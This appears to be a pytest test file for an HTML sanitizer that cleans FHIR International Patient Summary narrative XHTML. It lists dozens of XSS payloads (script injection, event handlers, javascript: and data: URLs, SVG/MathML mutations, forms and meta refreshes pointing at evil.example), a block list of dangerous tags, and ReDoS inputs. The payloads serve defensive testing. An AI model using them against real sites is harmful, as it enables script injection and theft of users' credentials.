"""Upstream narrative XHTML: every XSS vector ends inert, ordinary IPS narrative keeps its text and tables."""

import ast
import re
import time
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from core.fhir import narrative
from core.fhir.narrative import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    LINK_REL,
    MAX_NARRATIVE_CHARS,
    MAX_NARRATIVE_TAGS,
    sanitize_narrative,
)
from tests.conftest import ips_example
from tests.hostile_corpus import NARRATIVE_VECTORS


class Tags(HTMLParser):
    """Every start tag with its attributes, read the way a browser's tokenizer reads them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(markup: str) -> Tags:
    parser = Tags()
    parser.feed(markup)
    parser.close()
    return parser


def assert_only_allowed_markup(markup: str) -> None:
    for tag, attributes in parse(markup).tags:
        assert tag in ALLOWED_TAGS, tag
        allowed = ALLOWED_ATTRIBUTES["*"] | ALLOWED_ATTRIBUTES.get(tag, frozenset())
        if tag == "a":
            allowed |= {"rel"}
        for name, value in attributes.items():
            assert name in allowed, (tag, name)
            assert not name.startswith("on")
            if name == "href":
                assert value is not None
                assert re.match(r"(https?|mailto):", value), value
            if name == "src":
                assert value is not None
                assert re.match(r"data:image/(png|jpeg|gif|webp);base64,", value), value
            if name == "rel":
                assert value == LINK_REL


FORBIDDEN = [
    "<script",
    "</script",
    "<iframe",
    "<frame",
    "<svg",
    "<math",
    "<form",
    "<input",
    "<object",
    "<embed",
    "<applet",
    "<meta",
    "<base",
    "<link",
    "<style",
    "<template",
    "<noscript",
    "javascript:",
    "vbscript:",
    "data:text",
    "style=",
    "class=",
    "xmlns",
    "srcdoc",
    "formaction",
    "http-equiv",
]
EVENT_ATTRIBUTE = re.compile(r"<[^>]*\son[a-z]+\s*=", re.IGNORECASE)
ID_ATTRIBUTE = re.compile(r"<[^>]*\s(id|name)\s*=", re.IGNORECASE)


def assert_inert(markup: str) -> None:
    lowered = markup.lower()
    for needle in FORBIDDEN:
        assert needle not in lowered, (needle, markup)
    assert not EVENT_ATTRIBUTE.search(markup), markup
    assert not ID_ATTRIBUTE.search(markup), markup
    assert_only_allowed_markup(markup)


XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;script&colon;alert(1)">x</a>',
    '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
    '<a href="java&#09;script:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>body{background:url(//evil.example)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">cover</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">'
    "Go</button></form>",
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<applet code="x.class"></applet>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script><p>ok</p></div>',
    '<div xmlns="http://www.w3.org/1999/xhtml" onclick="alert(1)"><p>ok</p></div>',
    '<?xml version="1.0"?><div xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror=alert(1)/></div>',
    "<p><b><i><a href=javascript:alert(1)>unclosed",
    "<table><tr><td><script>alert(1)</script>",
    "</div></div></div><script>alert(1)</script>",
    '<p id="main" class="btn btn-danger" name="x">clash</p>',
    '<a href="https://ok.example" target="_blank" rel="opener">x</a>',
    '<video><source onerror="alert(1)"></video>',
    '<details open ontoggle="alert(1)">x</details>',
    '<body onload="alert(1)">x</body>',
    '<xss:script xmlns:xss="http://www.w3.org/1999/xhtml">alert(1)</xss:script>',
    '<span title="&quot;><script>alert(1)</script>">x</span>',
]


# The shared corpus (tests/hostile_corpus.py), which the record page, viewer and PDF tests use as well.
CORPUS = [
    vector.render("https://attacker.example", number) for number, vector in enumerate(NARRATIVE_VECTORS)
]


@pytest.mark.parametrize("vector", XSS_VECTORS + CORPUS)
def test_xss_vectors_end_inert(vector: str) -> None:
    assert_inert(sanitize_narrative(vector))
    assert "attacker.example" not in sanitize_narrative(vector)


@pytest.mark.parametrize("vector", XSS_VECTORS + CORPUS)
def test_sanitizing_twice_changes_nothing(vector: str) -> None:
    once = sanitize_narrative(vector)
    assert sanitize_narrative(once) == once


def test_text_of_dropped_elements_is_gone_and_ordinary_text_stays() -> None:
    assert sanitize_narrative("<script>alert(1)</script>after") == "after"
    assert sanitize_narrative("<style>p{color:red}</style><p>text</p>") == "<p>text</p>"
    assert sanitize_narrative('<iframe src="https://evil.example">inside</iframe>after') == "after"
    assert sanitize_narrative("<unknown>kept</unknown>") == "kept"


def test_links() -> None:
    assert sanitize_narrative('<a href="https://example.org/a?b=1&amp;c=2" target="_blank">x</a>') == (
        f'<a href="https://example.org/a?b=1&amp;c=2" rel="{LINK_REL}">x</a>'
    )
    assert sanitize_narrative('<a href="mailto:gp@example.org">mail</a>') == (
        f'<a href="mailto:gp@example.org" rel="{LINK_REL}">mail</a>'
    )
    assert sanitize_narrative('<a href="http://example.org">x</a>').startswith('<a href="http://example.org"')
    # Relative links would point into the portal; fragments at ids that are gone.
    for href in ("/accounts/logout/", "Patient/123", "#row-1", "//evil.example/x", "ftp://example.org/"):
        assert sanitize_narrative(f'<a href="{href}">x</a>') == f'<a rel="{LINK_REL}">x</a>'


def test_images_only_when_embedded() -> None:
    png = "data:image/png;base64,iVBORw0KGgo="
    assert sanitize_narrative(f'<img src="{png}" alt="chart" width="20" height="x">') == (
        f'<img src="{png}" alt="chart" width="20">'
    )
    assert sanitize_narrative('<img src="data:image/jpeg;base64,/9j/4AAQ">') == (
        '<img src="data:image/jpeg;base64,/9j/4AAQ">'
    )
    for src in ("https://tracker.example/p.gif", "/static/x.png", "x", "data:image/svg+xml;base64,PHN2Zz4="):
        assert sanitize_narrative(f'<img src="{src}" alt="a">') == '<img alt="a">'


def test_table_attributes_are_checked() -> None:
    markup = (
        '<table border="1" width="100%" summary="s"><tr><th scope="col" abbr="Dx" align="CENTER">Problem</th>'
        '<th scope="sideways">x</th></tr><tr><td colspan="2" rowspan="1e9" valign="top" headers="h1">a</td>'
        "</tr></table>"
    )
    assert parse(sanitize_narrative(markup)).tags == [
        ("table", {}),
        ("tbody", {}),
        ("tr", {}),
        ("th", {"scope": "col", "abbr": "Dx", "align": "center"}),
        ("th", {}),
        ("tr", {}),
        ("td", {"colspan": "2", "valign": "top", "headers": "h1"}),
    ]


def test_language_and_direction_attributes() -> None:
    assert sanitize_narrative('<p lang="da-DK" dir="RTL" title="note">x</p>') == (
        '<p lang="da-DK" dir="rtl" title="note">x</p>'
    )
    assert sanitize_narrative('<p lang="da&quot; onclick=&quot;x" dir="sideways">x</p>') == "<p>x</p>"


def test_root_div_is_unwrapped_and_xhtml_self_closing_is_respected() -> None:
    xhtml = (
        '<div xmlns="http://www.w3.org/1999/xhtml"><a name="top"/><p>One</p>'
        "<table><tr><td/><td>Two</td></tr></table></div>"
    )
    assert sanitize_narrative(xhtml) == (
        f'<a rel="{LINK_REL}"></a><p>One</p><table><tbody><tr><td></td><td>Two</td></tr></tbody></table>'
    )
    # A root div that does not close at the end is left alone (the sanitizer rebalances it).
    assert sanitize_narrative("<div><p>a</p></div><p>b</p>") == "<div><p>a</p></div><p>b</p>"
    assert sanitize_narrative("<p>a<br/>b</p>") == "<p>a<br>b</p>"


def test_unbalanced_markup_is_balanced() -> None:
    assert sanitize_narrative("<p><b><i>unclosed") == "<p><b><i>unclosed</i></b></p>"
    assert sanitize_narrative("</div></p>text<p>") == "<p></p>text<p></p>"  # as browsers read a stray </p>


@pytest.mark.parametrize("value", ["", "   ", None, 42, ["<p>x</p>"], {"div": "<p>x</p>"}, b"<p>x</p>"])
def test_non_text_gives_empty(value: Any) -> None:
    assert sanitize_narrative(value) == ""


def test_narratives_beyond_the_limits_are_not_parsed() -> None:
    # Nested blocks cost an HTML parser time growing with the square of their depth.
    nested = "<div>" * (MAX_NARRATIVE_TAGS // 2 + 1) + "deep" + "</div>" * (MAX_NARRATIVE_TAGS // 2 + 1)
    long = "<p>" + "a" * MAX_NARRATIVE_CHARS + "</p>"
    for markup in (nested, long):
        started = time.monotonic()
        assert sanitize_narrative(markup) == ""
        assert time.monotonic() - started < 0.1
    within = "<div>" * 4999 + "deep" + "</div>" * 4999
    assert "deep" in sanitize_narrative(within)


@pytest.mark.parametrize(
    "markup",
    [
        # Once minutes each in the self-closed tag pattern (backtracking from every "<").
        ("<a " + "b " * 48) * 10_000,
        ("<a b='" + '<a b="') * 5_000 + "x" * 800_000,
        ("<x a=b" + " c=d" * 20) * 9_000,
        "<td" + " a" * 490_000 + "/",
    ],
    ids=["bare-attributes", "open-quotes", "valued-attributes", "one-tag"],
)
def test_hostile_markup_within_the_limits_is_quick(markup: str) -> None:
    markup = markup[:MAX_NARRATIVE_CHARS]
    started = time.monotonic()
    sanitize_narrative(markup)
    assert time.monotonic() - started < 2


# ---------------------------------------------------------------------------- the IPS example's narratives


def example_narratives() -> list[tuple[str, str]]:
    bundle = ips_example("Bundle-bundle-ips-all-sections")
    found: list[tuple[str, str]] = []
    for entry in bundle["entry"]:
        resource = entry["resource"]
        label = f"{resource['resourceType']}/{resource['id']}"
        if "text" in resource:
            found.append((label, resource["text"]["div"]))
        for section in resource.get("section", []):
            found.append((f"{label} {section['title']}", section["text"]["div"]))
    return found


def squeezed_text(markup: str) -> str:
    """All text, whitespace removed: independent of how words are spaced around tags."""
    return "".join("".join(parse(markup).text).split())


def test_example_narratives_keep_their_text_and_stay_inside_the_allow_list() -> None:
    narratives = example_narratives()
    assert len(narratives) > 40
    for label, xhtml in narratives:
        clean = sanitize_narrative(xhtml)
        assert_inert(clean)
        assert squeezed_text(clean) == squeezed_text(xhtml), label


def test_example_section_tables_survive() -> None:
    composition = ips_example("Bundle-bundle-ips-all-sections")["entry"][0]["resource"]
    sections = {section["title"]: section["text"]["div"] for section in composition["section"]}
    problems = sanitize_narrative(sections["Problem List"])
    assert problems.startswith("<table>")
    assert "<th>Problem</th>" in problems
    assert "<td>Essential hypertension</td>" in problems
    assert "<td>Gout</td>" in problems
    assert problems.count("<tr>") == 3  # the header and two rows; their ids are gone
    medications = sanitize_narrative(sections["Medication Summary"])
    assert "<td>lisinopril 5 mg tablet</td>" in medications
    immunizations = parse(sanitize_narrative(sections["Immunizations"]))
    assert [tag for tag, _ in immunizations.tags].count("tr") >= 9
    allergies = sanitize_narrative(sections["Allergies and Intolerances"])
    assert squeezed_text(allergies).startswith("AllergyTypeSubstance")
    assert "Penicillin" in allergies


def test_module_is_pure() -> None:
    tree = ast.parse(Path(narrative.__file__).read_text(encoding="utf-8"))
    imported = {
        name
        for node in ast.walk(tree)
        for name in (
            [alias.name for alias in node.names]
            if isinstance(node, ast.Import)
            else [node.module or ""]
            if isinstance(node, ast.ImportFrom)
            else []
        )
    }
    assert not any(name.startswith("django") for name in imported)
